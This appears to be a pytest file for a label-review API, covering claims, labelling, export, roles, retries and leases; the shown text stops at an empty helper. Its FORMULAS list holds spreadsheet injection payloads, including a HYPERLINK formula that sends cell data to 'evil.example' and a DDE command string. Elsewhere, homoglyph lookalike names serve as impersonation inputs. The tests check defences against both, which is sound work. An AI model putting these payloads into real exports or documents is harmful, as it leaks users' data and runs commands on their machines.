"""The review API end to end: /predict -> outbox -> RQ -> task -> claim -> label -> export,
plus roles, error statuses and concurrent claims over HTTP (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import threading
import time
import unicodedata
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import redis
from fastapi.testclient import TestClient
from rq import Queue, SimpleWorker
from sqlalchemy.engine import Engine
from sqlmodel import Session, func, select

from service.api.routes.review import lease_remaining_s
from service.api.state import AppState
from service.config import Settings
from service.crud import review_intake
from service.entities import Feedback, FeedbackStatus, Label, OutboxItem, Prediction
from service.entities.common import utcnow
from service.entities.review import ReviewReason, ReviewStatus, ReviewTask
from service.ml import registry
from service.ml.dataset import load_dataset, text_hash
from service.ml.training import TrainResult
from service.tags import TagSet
from tests.conftest import auth, auth_as, sqlite_app
from workers.context import JobContext, use_context

# Short, vague items the model is rarely sure about: some come back with status `review`.
VAGUE = [
    "A new approach",
    "Notes",
    "My project",
    "Learning from data",
    "Tools and tips",
    "An overview",
    "Experiments",
    "Awesome list",
    "Weekly digest",
    "Introduction",
    "Lessons learned",
    "Getting started",
    "Best practices",
    "Open questions",
]
TASK_KEYS = {
    "task_id",
    "title",
    "description",
    "suggestion",
    "duplicate_of",
    "duplicate_tag",
    "duplicate_title",
    "reason",
    "stage",
    "reports",
    "earlier_labels",
    "priority",
    "lease_expires_at",
    "lease_remaining_s",
}


def state_of(client: TestClient) -> AppState:
    return client.app.state.tagflow  # type: ignore[attr-defined,no-any-return]


def predict_until_review(client: TestClient) -> list[dict[str, Any]]:
    """Post the vague items; return the ones answered `review` (at least one)."""
    found = []
    for title in VAGUE:
        response = client.post("/predict", json={"title": title}, headers=auth("client"))
        assert response.status_code == 200
        if response.json()["status"] == "review":
            found.append({"title": title, **response.json()})
    assert found, "no vague item came back with status review"
    return found


def wait_outbox_sent(engine: Engine, at_least: int, timeout_s: float = 10.0) -> None:
    """Wait for the write-behind log to store the outbox rows and the relay to send them."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        with Session(engine) as session:
            total = session.exec(select(func.count()).select_from(OutboxItem)).one()
            pending = session.exec(
                select(func.count()).select_from(OutboxItem).where(OutboxItem.sent_at.is_(None))  # type: ignore[union-attr]
            ).one()
        if total >= at_least and pending == 0:
            return
        time.sleep(0.05)
    raise AssertionError(f"outbox not drained: {total} rows, {pending} pending")


def run_labeling_worker(conn: redis.Redis, settings: Settings) -> None:
    """Work the labelling queue in this process until it is empty, as `tagflow worker` would."""
    context = JobContext(settings)
    use_context(context)
    try:
        SimpleWorker([Queue("labeling", connection=conn)], connection=conn).work(burst=True)
    finally:
        use_context(None)
        context.engine.dispose()


def add_tasks(engine: Engine, n: int) -> list[int]:
    ids = []
    with Session(engine, expire_on_commit=False) as session:
        for i in range(n):
            task = review_intake.create_task(
                session,
                task=ReviewTask(
                    text_hash=text_hash(f"task {i}", ""),
                    title=f"task {i}",
                    description="",
                    reason=ReviewReason.LOW_CONFIDENCE,
                    uncertainty=i / max(n, 1),
                    suggestion_tag="other",
                    suggestion_scores={"other": 1.0},
                ),
            )
            assert task is not None and task.id is not None
            ids.append(task.id)
    return ids


def body(reviewer: str, **extra: str) -> dict[str, str]:
    return {"reviewer": reviewer, **extra}


def test_prediction_to_label_to_export(
    client: TestClient, redis_conn: redis.Redis, tags: TagSet, tmp_path: Path
) -> None:
    state = state_of(client)
    review = predict_until_review(client)
    repeat = review[0]
    again = client.post("/predict", json={"title": repeat["title"]}, headers=auth("client"))
    assert again.json()["status"] == "review"
    wait_outbox_sent(state.engine, at_least=len(review) + 1)
    run_labeling_worker(redis_conn, state.settings)

    with Session(state.engine) as session:
        stored = {t.text_hash: t for t in session.exec(select(ReviewTask))}
    assert set(stored) == {text_hash(r["title"], "") for r in review}
    repeated = stored[text_hash(repeat["title"], "")]
    assert repeated.arrivals == 2
    assert repeated.prediction_id == repeat["prediction_id"]
    assert repeated.suggestion_tag == repeat["tag"]
    assert repeated.suggestion_scores == repeat["scores"]

    claimed = client.post("/review/claim", json=body("ann"), headers=auth("reviewer"))
    assert claimed.status_code == 200
    task = claimed.json()
    assert set(task) == TASK_KEYS
    top = max(stored.values(), key=lambda t: (t.priority, -(t.id or 0)))
    assert task["task_id"] == top.id and task["reason"] == "low_confidence"
    assert set(task["suggestion"]["scores"]) == set(tags.names)

    labelled = client.post(
        f"/review/{task['task_id']}/label", json=body("ann", tag="mlops"), headers=auth("reviewer")
    )
    assert labelled.status_code == 201
    assert labelled.json()["tag"] == "mlops" and labelled.json()["reviewer"] == "ann"

    stats = client.get("/review/stats", headers=auth("reviewer")).json()
    assert stats["labeled_today"] == 1 and stats["failed_jobs"] == 0
    assert stats["open"] == len(stored) - 1 and stats["leased"] == 0
    assert stats["outbox_pending"] == 0 and stats["outbox_stopped"] == 0

    for fmt in ("csv", "jsonl"):
        export = client.get(f"/labels/export?format={fmt}", headers=auth("reviewer"))
        assert export.status_code == 200
        path = tmp_path / f"labels.{fmt}"
        path.write_bytes(export.content)
        examples, report = load_dataset(path, tags=tags)
        assert [(e.title, e.tag) for e in examples] == [(task["title"], "mlops")]
        assert report.rows_read == 1
    header = client.get("/labels/export", headers=auth("reviewer")).text.splitlines()[0]
    assert header == "id,created_on,title,description,tag,reviewer,source,holdout"


# Texts a spreadsheet runs as formulas when it opens a CSV: anyone with a client key can send
# one as a title, and the label export used to write it as it came.
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"details")', "=cmd|' /C calc'!A0"),
    ("+1+1 tricks", "@SUM(1+1)"),
    ("-2+3 is not a tag", ""),
    ("@here a title", "-\tbullet"),
    ("'=already quoted", "''two"),
]


def test_the_csv_export_keeps_formulas_from_running_and_reads_back_as_it_was(
    sqlite_client: TestClient, tags: TagSet, tmp_path: Path
) -> None:
    with Session(state_of(sqlite_client).engine, expire_on_commit=False) as session:
        for title, description in FORMULAS:
            review_intake.create_task(
                session,
                task=ReviewTask(
                    text_hash=text_hash(title, description),
                    title=title,
                    description=description,
                    reason=ReviewReason.LOW_CONFIDENCE,
                    uncertainty=0.5,
                    suggestion_tag="other",
                    suggestion_scores={"other": 1.0},
                ),
            )
    headers = auth("reviewer")
    who = body("=1+1")  # a shared key's declared name is text from outside too
    while (claimed := sqlite_client.post("/review/claim", json=who, headers=headers)).content:
        label = body("=1+1", tag="other")
        path = f"/review/{claimed.json()['task_id']}/label"
        assert sqlite_client.post(path, json=label, headers=headers).status_code == 201
    export = sqlite_client.get("/labels/export", headers=headers)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("title", "description", "reviewer"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {r["reviewer"] for r in rows} == {"'=1+1"}
    path = tmp_path / "labels.csv"
    path.write_bytes(export.content)
    examples, _ = load_dataset(path, tags=tags)
    assert sorted((e.title, e.description) for e in examples) == sorted(FORMULAS)


def test_one_text_in_both_unicode_forms_is_one_item_to_review(
    client: TestClient, redis_conn: redis.Redis
) -> None:
    """The same title and description, once composed (NFC) and once decomposed (NFD, as macOS
    and some text pipelines send accents): stored as sent, but one content, scored alike, one
    review task, one label that both predictions show."""
    state = state_of(client)
    all_to_review = {"threshold": 1.01}
    put = client.put("/models/v0001/threshold", json=all_to_review, headers=auth("admin"))
    assert put.status_code == 200
    composed = {"title": "Caf\u00e9 r\u00e9sum\u00e9 parser", "description": "한국어 형태소 분석"}
    decomposed = {k: unicodedata.normalize("NFD", v) for k, v in composed.items()}
    assert decomposed != composed
    answers = [
        client.post("/predict", json=item, headers=auth("client")).json()
        for item in (composed, decomposed)
    ]
    assert answers[0]["scores"] == answers[1]["scores"]
    wait_outbox_sent(state.engine, at_least=2)
    run_labeling_worker(redis_conn, state.settings)

    with Session(state.engine) as session:
        stored = [session.get(Prediction, a["prediction_id"]) for a in answers]
        tasks = session.exec(select(ReviewTask)).all()
    assert [(p.title, p.description) for p in stored if p] == [
        (item["title"], item["description"]) for item in (composed, decomposed)
    ]
    assert [(t.arrivals, t.status) for t in tasks] == [(2, ReviewStatus.OPEN)]
    task_id = client.post("/review/claim", json=body("ann"), headers=auth("reviewer")).json()[
        "task_id"
    ]
    label = client.post(
        f"/review/{task_id}/label", json=body("ann", tag="other"), headers=auth("reviewer")
    )
    assert label.status_code == 201
    for answer in answers:
        record = client.get(f"/predictions/{answer['prediction_id']}", headers=auth("client"))
        assert record.json()["label"]["tag"] == "other"


def test_concurrent_claims_over_http(client: TestClient) -> None:
    ids = set(add_tasks(state_of(client).engine, 25))
    barrier = threading.Barrier(20)
    results: list[tuple[int, Any]] = []
    lock = threading.Lock()

    def claim(n: int) -> None:
        barrier.wait()
        response = client.post("/review/claim", json=body(f"r{n}"), headers=auth("reviewer"))
        with lock:
            results.append((response.status_code, response.json()))

    threads = [threading.Thread(target=claim, args=(n,)) for n in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert [status for status, _ in results] == [200] * 20
    handed = [task["task_id"] for _, task in results]
    assert len(set(handed)) == 20 and set(handed) <= ids
    stats = client.get("/review/stats", headers=auth("reviewer")).json()
    assert (stats["open"], stats["leased"]) == (5, 20)


def test_one_reviewers_claims_at_once_lease_one_task(client: TestClient) -> None:
    """Claims sent at once by one reviewer (two tabs opening, a retry racing the first) each
    found no lease of theirs and leased a task each: ann or bob held 2-6 of them, and all but
    the one their tabs showed were stranded until their next claims handed them back one by
    one. A reviewer's claims now take turns: every copy is answered with the same task, and
    another reviewer claiming at the same moment is not held up by them nor handed theirs.
    Three rounds, each given back before the next, as the race need not show in every one."""
    engine = state_of(client).engine
    add_tasks(engine, 20)
    for _ in range(3):
        handed = _claims_at_once(client, ["ann"] * 8 + ["bob"] * 8)
        assert {status for status, _ in handed["ann"] + handed["bob"]} == {200}
        ann = {task_id for _, task_id in handed["ann"]}
        bob = {task_id for _, task_id in handed["bob"]}
        assert len(ann) == 1 and len(bob) == 1 and ann != bob
        with Session(engine) as session:
            leased = {
                task.id: task.leased_by
                for task in session.exec(select(ReviewTask))
                if task.status == ReviewStatus.LEASED
            }
        assert leased == {ann.pop(): "ann", bob.pop(): "bob"}
        for reviewer in ("ann", "bob"):
            given_back = client.post(
                "/review/release", json=body(reviewer), headers=auth("reviewer")
            )
            assert given_back.status_code == 200


def _claims_at_once(client: TestClient, reviewers: list[str]) -> dict[str, list[Any]]:
    """POST /review/claim for each of `reviewers` from a thread each, all released at once;
    each reviewer's (status, task id) answers."""
    barrier = threading.Barrier(len(reviewers))
    handed: dict[str, list[Any]] = {reviewer: [] for reviewer in reviewers}
    lock = threading.Lock()

    def claim(reviewer: str) -> None:
        barrier.wait()
        response = client.post("/review/claim", json=body(reviewer), headers=auth("reviewer"))
        with lock:
            handed[reviewer].append((response.status_code, response.json()["task_id"]))

    threads = [threading.Thread(target=claim, args=(r,)) for r in reviewers]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return handed


def test_relabel_through_undo_keeps_history(
    client: TestClient, tags: TagSet, tmp_path: Path
) -> None:
    engine = state_of(client).engine
    [task_id] = add_tasks(engine, 1)
    headers = auth("reviewer")
    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    first = client.post(f"/review/{task_id}/label", json=body("ann", tag="mlops"), headers=headers)
    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 204
    assert (
        client.post(f"/review/{task_id}/reopen", json=body("bob"), headers=headers).status_code
        == 409
    )
    reopened = client.post(f"/review/{task_id}/reopen", json=body("ann"), headers=headers)
    assert reopened.status_code == 200
    assert set(reopened.json()) == TASK_KEYS and reopened.json()["task_id"] == task_id
    lease_s = state_of(client).settings.review_lease_s
    assert_lease_remaining(reopened.json(), lease_s=lease_s)  # leased to ann again
    second = client.post(f"/review/{task_id}/label", json=body("ann", tag="other"), headers=headers)
    assert second.status_code == 201
    assert second.json()["supersedes"] == first.json()["id"]
    with Session(engine) as session:
        rows = session.exec(select(Label).order_by(Label.id)).all()
    assert [(r.tag, r.superseded_by) for r in rows] == [
        ("mlops", second.json()["id"]),
        ("other", None),
    ]
    path = tmp_path / "labels.jsonl"
    path.write_bytes(client.get("/labels/export?format=jsonl", headers=headers).content)
    examples, _ = load_dataset(path, tags=tags)
    assert [e.tag for e in examples] == ["other"]


def test_roles(sqlite_client: TestClient) -> None:
    [task_id] = add_tasks(state_of(sqlite_client).engine, 1)
    calls = [
        ("post", "/review/claim", body("ann")),
        ("get", "/review/stats", None),
        ("post", f"/review/{task_id}/label", body("ann", tag="mlops")),
        ("post", f"/review/{task_id}/skip", body("ann")),
        ("post", f"/review/{task_id}/release", body("ann")),
        ("post", f"/review/{task_id}/reopen", body("ann")),
        ("get", "/labels/export", None),
    ]
    for method, url, payload in calls:
        kwargs = {"json": payload} if payload else {}
        assert getattr(sqlite_client, method)(url, **kwargs).status_code == 401, url
        denied = getattr(sqlite_client, method)(url, headers=auth("client"), **kwargs)
        assert denied.status_code == 403, url
    assert sqlite_client.get("/review/stats", headers=auth("admin")).status_code == 200
    claimed = sqlite_client.post("/review/claim", json=body("root"), headers=auth("admin"))
    assert claimed.status_code == 200 and claimed.json()["task_id"] == task_id


def test_a_task_suggesting_a_retired_tag_offers_no_suggestion(sqlite_client: TestClient) -> None:
    """A task made while a tag was approved, claimed after its line was removed: the reviewer
    is not offered the retired tag (the page has no button for it, and a label with it is
    refused), but still sees the model's scores. Claim, skip, release and undo agree."""
    engine = state_of(sqlite_client).engine
    [task_id] = add_tasks(engine, 1)
    with Session(engine) as session:
        task = session.get(ReviewTask, task_id)
        assert task is not None
        task.suggestion_tag = "graph-learning"
        task.suggestion_scores = {"graph-learning": 0.55, "other": 0.3}
        session.add(task)
        session.commit()
    claimed = sqlite_client.post("/review/claim", json=body("ann"), headers=auth("reviewer"))
    assert claimed.status_code == 200 and claimed.json()["task_id"] == task_id
    suggestion = claimed.json()["suggestion"]
    assert suggestion == {"tag": None, "scores": {"graph-learning": 0.55, "other": 0.3}}
    skipped = sqlite_client.post(
        f"/review/{task_id}/skip", json=body("ann"), headers=auth("reviewer")
    )
    assert skipped.json()["suggestion"]["tag"] is None
    again = sqlite_client.post("/review/claim", json=body("ann"), headers=auth("reviewer"))
    refused = sqlite_client.post(
        f"/review/{task_id}/label", json=body("ann", tag="graph-learning"), headers=auth("reviewer")
    )
    assert again.json()["task_id"] == task_id and refused.status_code == 422
    assert "not in the approved list" in refused.json()["detail"]
    labelled = sqlite_client.post(
        f"/review/{task_id}/label", json=body("ann", tag="other"), headers=auth("reviewer")
    )
    assert labelled.status_code == 201
    reopened = sqlite_client.post(
        f"/review/{task_id}/reopen", json=body("ann"), headers=auth("reviewer")
    )
    assert reopened.status_code == 200 and reopened.json()["suggestion"]["tag"] is None


def test_a_personal_key_acts_as_its_holder(sqlite_client: TestClient) -> None:
    """A key issued to Pia needs no name in the body, records Pia, and cannot act as Quin; a
    shared key must name the reviewer."""
    engine = state_of(sqlite_client).engine
    [task_id] = add_tasks(engine, 1)
    shared = sqlite_client.post("/review/claim", headers=auth("reviewer"))
    assert shared.status_code == 422 and "shared" in shared.json()["detail"]
    assert sqlite_client.post("/review/claim", json={}, headers=auth("reviewer")).status_code == 422
    posing = sqlite_client.post("/review/claim", json=body("quin"), headers=auth_as("pia"))
    assert posing.status_code == 403 and "pia's" in posing.json()["detail"]
    claimed = sqlite_client.post("/review/claim", headers=auth_as("pia"))
    assert claimed.status_code == 200 and claimed.json()["task_id"] == task_id
    # The lease is Pia's: Quin's key cannot label it, nor the shared key under another name.
    url = f"/review/{task_id}/label"
    for headers, payload in (
        (auth_as("quin"), {"tag": "mlops"}),
        (auth("reviewer"), body("zed", tag="mlops")),
    ):
        assert sqlite_client.post(url, json=payload, headers=headers).status_code == 409
    # Nor the shared key as Pia (or Quin): who has a personal key acts with it alone.
    # Zero-width space, fullwidth, Cyrillic р and а, all Cyrillic, Greek capitals.
    for name in ("pia", "PIA", "quin", "pi\u200ba", "\uff50\uff49\uff41", "рiа", "ріа", "ΡΙΑ"):
        posing = sqlite_client.post(url, json=body(name, tag="mlops"), headers=auth("reviewer"))
        assert posing.status_code == 403, name
        assert "has a personal key" in posing.json()["detail"]
    same_name = sqlite_client.post(url, json=body("pia", tag="mlops"), headers=auth_as("pia"))
    assert same_name.status_code == 201 and same_name.json()["reviewer"] == "pia"
    reopened = sqlite_client.post(f"/review/{task_id}/reopen", headers=auth_as("pia"))
    assert reopened.status_code == 200
    relabel = sqlite_client.post(url, json={"tag": "other"}, headers=auth_as("pia"))
    assert relabel.status_code == 201 and relabel.json()["reviewer"] == "pia"
    with Session(engine) as session:
        labels = session.exec(select(Label.reviewer, Label.tag).order_by(Label.id)).all()
    assert [tuple(row) for row in labels] == [("pia", "mlops"), ("pia", "other")]


def test_error_statuses(sqlite_client: TestClient) -> None:
    headers = auth("reviewer")
    empty = sqlite_client.post("/review/claim", json=body("ann"), headers=headers)
    assert empty.status_code == 204 and empty.content == b""
    [task_id] = add_tasks(state_of(sqlite_client).engine, 1)
    blank = sqlite_client.post("/review/claim", json=body(" "), headers=headers)
    assert blank.status_code == 422
    assert blank.json()["detail"][0]["msg"] == "String should have at least 1 character"
    invisible = sqlite_client.post("/review/claim", json=body("\u200b"), headers=headers)
    assert invisible.status_code == 422  # a name of its own that shows nothing
    assert sqlite_client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    url = f"/review/{task_id}"
    unapproved = sqlite_client.post(
        f"{url}/label", json=body("ann", tag="cooking"), headers=headers
    )
    assert unapproved.status_code == 422 and "approved" in unapproved.json()["detail"]
    missing = sqlite_client.post(
        "/review/424242/label", json=body("ann", tag="mlops"), headers=headers
    )
    assert missing.status_code == 404
    for action, payload in (
        ("label", body("bob", tag="mlops")),
        ("skip", body("bob")),
        ("release", body("bob")),
    ):
        conflict = sqlite_client.post(f"{url}/{action}", json=payload, headers=headers)
        assert conflict.status_code == 409 and "'ann'" in conflict.json()["detail"], action
    skipped = sqlite_client.post(f"{url}/skip", json=body("ann"), headers=headers)
    assert skipped.status_code == 200 and skipped.json()["lease_expires_at"] is None
    released = sqlite_client.post("/review/claim", json=body("ann"), headers=headers)
    assert released.json()["task_id"] == task_id  # nothing else is open
    assert (
        sqlite_client.post(f"{url}/release", json=body("ann"), headers=headers).status_code == 200
    )
    assert sqlite_client.post(f"{url}/reopen", json=body("ann"), headers=headers).status_code == 409
    with Session(state_of(sqlite_client).engine) as session:
        task = session.get(ReviewTask, task_id)
        assert task is not None and task.status == ReviewStatus.OPEN and task.skips == 1


def test_promotion_reprioritizes_the_queue(
    sqlite_client: TestClient, redis_conn: redis.Redis, shared_result: TrainResult
) -> None:
    state = state_of(sqlite_client)
    ids = add_tasks(state.engine, 3)
    with Session(state.engine) as session:
        version = registry.register(
            session, result=shared_result, artifacts_dir=state.settings.artifacts_dir
        ).version
    promoted = sqlite_client.post(f"/models/{version}/promote", headers=auth("admin"))
    assert promoted.status_code == 200
    queued = [
        j
        for j in Queue("labeling", connection=redis_conn).get_jobs()
        if j.func_name == "workers.review_jobs.reprioritize"
    ]
    assert [j.args for j in queued][-1] == (version,)
    run_labeling_worker(redis_conn, state.settings)
    with Session(state.engine) as session:
        rescored = [session.get(ReviewTask, i) for i in ids]
    assert all(
        t and t.model_version == version and t.suggestion_scores != {"other": 1.0} for t in rescored
    )


def test_a_label_sent_again_is_saved_once(client: TestClient) -> None:
    """A label sent again after its answer was lost: the same tag answers 200 with the label
    saved the first time; another tag is a 409 carrying that label (its reviewer's to change
    by undo); another reviewer is told whose label it is. Before, the retry was a bare 409
    "already labelled", and its sender could not tell their label was saved."""
    [task_id] = add_tasks(state_of(client).engine, 1)
    headers = auth("reviewer")
    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    url = f"/review/{task_id}/label"
    saved = client.post(url, json=body("ann", tag="mlops"), headers=headers)
    assert saved.status_code == 201

    again = client.post(url, json=body("ann", tag="mlops"), headers=headers)
    assert again.status_code == 200 and again.json() == saved.json()
    other = client.post(url, json=body("ann", tag="other"), headers=headers)
    assert other.status_code == 409 and other.json()["label"] == saved.json()
    assert other.json()["detail"] == (
        f"task {task_id} is already labelled 'mlops' by 'ann' (you); reopen it to change the label"
    )
    for action in ("label", "skip"):  # someone else: whose label it is, and not the label
        payload = body("bob", tag="mlops") if action == "label" else body("bob")
        refused = client.post(f"/review/{task_id}/{action}", json=payload, headers=headers)
        assert refused.status_code == 409 and "label" not in refused.json(), action
        assert refused.json()["detail"] == f"task {task_id} is already labelled by 'ann'", action
    with Session(state_of(client).engine) as session:
        assert [row.tag for row in session.exec(select(Label)).all()] == ["mlops"]


def test_a_first_opinion_sent_again_is_saved_once(
    make_settings: Callable[..., Settings], tmp_path: Path, shared_result: TrainResult
) -> None:
    """In the overlap sample the first label sends the task back to the queue for a second
    opinion: the same label sent again answers 200 with the saved one, and still does once
    the second opinion closed the task. Before, it was a 409 "waits for a second opinion from
    another reviewer than 'ann'"."""
    with sqlite_app(make_settings, tmp_path, shared_result, review_overlap_share=1.0) as client:
        [task_id] = add_tasks(state_of(client).engine, 1)
        headers, url = auth("reviewer"), f"/review/{task_id}/label"
        saved = client.post(url, json=body("ann", tag="mlops"), headers=headers)
        assert saved.status_code == 201
        again = client.post(url, json=body("ann", tag="mlops"), headers=headers)
        assert again.status_code == 200 and again.json()["id"] == saved.json()["id"]
        assert client.post(url, json=body("bob", tag="mlops"), headers=headers).status_code == 201
        late = client.post(url, json=body("ann", tag="mlops"), headers=headers)
        assert late.status_code == 200 and late.json()["id"] == saved.json()["id"]
        with Session(state_of(client).engine) as session:
            assert [row.reviewer for row in session.exec(select(Label)).all()] == ["ann", "bob"]


def test_a_skip_sent_again_counts_once(client: TestClient) -> None:
    """A skip sent again after its answer was lost is answered with the task as it stands,
    also once someone else holds it; a skip after claiming the task again counts. Before,
    every copy counted: one more skip and one more step down the queue each."""
    engine = state_of(client).engine
    [task_id] = add_tasks(engine, 1)
    headers, url = auth("reviewer"), f"/review/{task_id}/skip"

    def skips() -> tuple[int, str | None]:
        with Session(engine) as session:
            task = session.get(ReviewTask, task_id)
            assert task is not None
            return task.skips, task.leased_by

    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    first = client.post(url, json=body("ann"), headers=headers)
    assert first.status_code == 200
    again = client.post(url, json=body("ann"), headers=headers)
    assert again.status_code == 200 and again.json() == first.json()
    assert skips() == (1, None)
    assert client.post("/review/claim", json=body("bob"), headers=headers).status_code == 200
    assert client.post(url, json=body("ann"), headers=headers).status_code == 200
    assert skips() == (1, "bob")
    assert client.post(url, json=body("bob"), headers=headers).status_code == 200
    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    assert client.post(url, json=body("ann"), headers=headers).status_code == 200
    assert skips() == (3, None)


def test_an_undo_sent_again_leases_the_task_back_once(client: TestClient) -> None:
    """An undo sent again after its answer was lost leases the task back as the first one
    did, and the next label replaces the undone one; once someone else labelled the task,
    the undo is refused as before. Before, the repeat was a 409 "no label of 'ann' to undo"."""
    engine = state_of(client).engine
    [task_id] = add_tasks(engine, 1)
    headers, url = auth("reviewer"), f"/review/{task_id}/reopen"
    assert client.post("/review/claim", json=body("ann"), headers=headers).status_code == 200
    label = f"/review/{task_id}/label"
    first = client.post(label, json=body("ann", tag="mlops"), headers=headers).json()
    undone = client.post(url, json=body("ann"), headers=headers)
    assert undone.status_code == 200
    again = client.post(url, json=body("ann"), headers=headers)
    assert again.status_code == 200 and again.json()["task_id"] == task_id
    assert client.post(url, json=body("bob"), headers=headers).status_code == 409
    second = client.post(label, json=body("ann", tag="other"), headers=headers)
    assert second.status_code == 201 and second.json()["supersedes"] == first["id"]
    with Session(engine) as session:
        task = session.get(ReviewTask, task_id)
        assert task is not None and task.status == ReviewStatus.LABELED
        assert task.final_label_id == second.json()["id"]


def test_copies_of_one_action_sent_at_once_count_once_and_all_succeed(client: TestClient) -> None:
    """Eight copies of one reviewer's label, skip and undo, sent at the same moment (a page's
    retry while the first is still on its way): each takes effect once, and every copy is
    answered as a success. Before, copies of an undo that raced the first were refused (409
    "changed concurrently"), and the page then dropped the label from its undo list."""
    engine = state_of(client).engine
    labelled, skipped = add_tasks(engine, 2)
    headers = auth("reviewer")
    assert client.post("/review/claim", json=body("ann"), headers=headers).json()["task_id"] in {
        labelled,
        skipped,
    }

    def at_once(path: str, payload: dict[str, str]) -> list[int]:
        barrier = threading.Barrier(8)
        statuses: list[int] = []

        def send() -> None:
            barrier.wait()
            statuses.append(client.post(path, json=payload, headers=headers).status_code)

        threads = [threading.Thread(target=send) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return sorted(statuses)

    assert at_once(f"/review/{labelled}/label", body("ann", tag="mlops")) == [200] * 7 + [201]
    assert at_once(f"/review/{skipped}/skip", body("ann")) == [200] * 8
    assert at_once(f"/review/{labelled}/reopen", body("ann")) == [200] * 8
    with Session(engine) as session:
        assert [row.tag for row in session.exec(select(Label)).all()] == ["mlops"]
        tasks = {task.id: task for task in session.exec(select(ReviewTask)).all()}
    assert (tasks[labelled].status, tasks[labelled].leased_by) == (ReviewStatus.LEASED, "ann")
    assert (tasks[skipped].status, tasks[skipped].skips) == (ReviewStatus.OPEN, 1)


def test_releasing_all_held_gives_back_only_the_reviewers_leases(client: TestClient) -> None:
    """POST /review/release (no task) gives back every lease its reviewer holds, unchanged,
    and says which: what a page changing hands sends, since a claim saved with its answer
    lost leased a task it cannot name. Another reviewer's lease stays theirs; sent again, it
    releases nothing."""
    engine = state_of(client).engine
    add_tasks(engine, 2)
    headers = auth("reviewer")
    ann = client.post("/review/claim", json=body("ann"), headers=headers).json()["task_id"]
    bob = client.post("/review/claim", json=body("bob"), headers=headers).json()["task_id"]

    released = client.post("/review/release", json=body("ann"), headers=headers)
    assert released.status_code == 200 and released.json() == {"released": [ann]}
    assert client.post("/review/release", json=body("ann"), headers=headers).json() == {
        "released": []
    }
    with Session(engine) as session:
        statuses = {
            task.id: (task.status, task.leased_by) for task in session.exec(select(ReviewTask))
        }
    assert statuses[ann] == (ReviewStatus.OPEN, None)
    assert statuses[bob] == (ReviewStatus.LEASED, "bob")
    assert client.post("/review/release", json={}, headers=headers).status_code == 422
    assert (
        client.post("/review/release", json=body("ann"), headers=auth("client")).status_code == 403
    )


def test_releasing_all_held_keeps_what_the_reviewers_other_tabs_show(client: TestClient) -> None:
    """A page that changes hands names in `keep` the items its reviewer's other tabs show:
    those stay leased to the reviewer, the rest go back. Before, the release took them too,
    and the next claim handed them to whoever signed in, under the other tab."""
    engine = state_of(client).engine
    add_tasks(engine, 3)
    headers = auth("reviewer")
    shown = client.post("/review/claim", json=body("ann"), headers=headers).json()["task_id"]
    # A second lease of ann's, as an undo whose answer was lost leaves: taken over from bob.
    unseen = client.post("/review/claim", json=body("bob"), headers=headers).json()["task_id"]
    with Session(engine) as session:
        task = session.get(ReviewTask, unseen)
        assert task is not None
        task.leased_by = "ann"
        session.add(task)
        session.commit()

    keep = {**body("ann"), "keep": [shown]}
    released = client.post("/review/release", json=keep, headers=headers)
    assert released.status_code == 200 and released.json() == {"released": [unseen]}
    with Session(engine) as session:
        task = session.get(ReviewTask, shown)
        assert task is not None and (task.status, task.leased_by) == (ReviewStatus.LEASED, "ann")
    refused = client.post("/review/release", json={**body("ann"), "keep": [0]}, headers=headers)
    assert refused.status_code == 422


def test_a_lease_is_renewed_by_its_holder_only(
    make_settings: Callable[..., Settings], tmp_path: Path, shared_result: TrainResult
) -> None:
    """POST /review/{id}/renew keeps a reviewer's lease for another `review_lease_s` from now,
    for as long as they are at the item (the page renews it). Before, there was no way to: a
    reviewer still reading lost the item to the next claim once its 10 minutes ran out. Only
    the holder renews: another reviewer, a lease run out and taken, a skipped or labelled
    task get a 409 that says why."""
    with sqlite_app(make_settings, tmp_path, shared_result, review_lease_s=300) as client:
        engine = state_of(client).engine
        first, _ = add_tasks(engine, 2)[::-1]  # the highest priority is claimed first
        headers = auth("reviewer")
        claimed = client.post("/review/claim", json=body("ann"), headers=headers).json()
        assert claimed["task_id"] == first
        assert_lease_remaining(claimed, lease_s=300)
        set_lease(engine, first, seconds_left=5)

        renewed = client.post(f"/review/{first}/renew", json=body("ann"), headers=headers)
        assert renewed.status_code == 200 and set(renewed.json()) == TASK_KEYS
        assert 290 < seconds_left(renewed.json()["lease_expires_at"]) <= 300
        assert_lease_remaining(renewed.json(), lease_s=300)
        with Session(engine) as session:
            task = session.get(ReviewTask, first)
            assert task is not None and (task.status, task.leased_by) == (
                ReviewStatus.LEASED,
                "ann",
            )

        refused = client.post(f"/review/{first}/renew", json=body("bob"), headers=headers)
        assert refused.status_code == 409
        assert refused.json()["detail"] == f"task {first} is leased to 'ann'"

        set_lease(engine, first, seconds_left=-1)  # ran out, and bob's claim takes it
        assert (
            client.post("/review/claim", json=body("bob"), headers=headers).json()["task_id"]
            == first
        )
        refused = client.post(f"/review/{first}/renew", json=body("ann"), headers=headers)
        assert refused.status_code == 409
        assert refused.json()["detail"] == f"task {first} is leased to 'bob'"

        skipped = client.post(f"/review/{first}/skip", json=body("bob"), headers=headers)
        assert skipped.is_success and skipped.json()["lease_remaining_s"] is None  # no lease
        refused = client.post(f"/review/{first}/renew", json=body("bob"), headers=headers)
        assert refused.status_code == 409
        assert "its lease ran out or was given back" in refused.json()["detail"]

        assert (
            client.post("/review/999999/renew", json=body("ann"), headers=headers).status_code
            == 404
        )
        forbidden = client.post(f"/review/{first}/renew", json=body("ann"), headers=auth("client"))
        assert forbidden.status_code == 403


def assert_lease_remaining(task: dict[str, Any], *, lease_s: int) -> None:
